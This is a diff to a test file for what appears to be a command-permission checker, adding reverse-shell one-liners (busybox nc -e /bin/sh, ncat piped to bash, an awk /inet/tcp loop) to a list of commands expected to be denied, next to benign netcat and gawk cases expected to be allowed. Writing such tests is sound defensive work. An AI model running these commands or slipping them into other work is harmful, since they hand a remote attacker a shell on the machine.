@@ -392,12 +392,16 @@ describe('a shell reading commands from a connection is denied', () => {
     'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1234,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");\'',
     'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
     'ruby -rsocket -e \'c=TCPSocket.new("10.0.0.1",4242);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
+    'busybox nc 10.0.0.1 4444 -e /bin/sh',
+    'ncat --ssl 10.0.0.1 443 | bash 2>&1',
+    'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while (1) { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } }\' /dev/null',
   ]);
   expectNotDenied([
     'nc -zv localhost 5432',
     'nc -l 9000 > received.tar',
     'echo ping | nc -q1 localhost 6379',
     'python3 -c "import socket; print(socket.gethostname())"',
+    'gawk \'BEGIN { s = "/inet/tcp/0/example.com/80"; print "GET / HTTP/1.0\\r\\n\\r\\n" |& s; while ((s |& getline line) > 0) print line }\'',
     'bash ./build.sh 2>&1 | tee build.log',
   ]);
 });
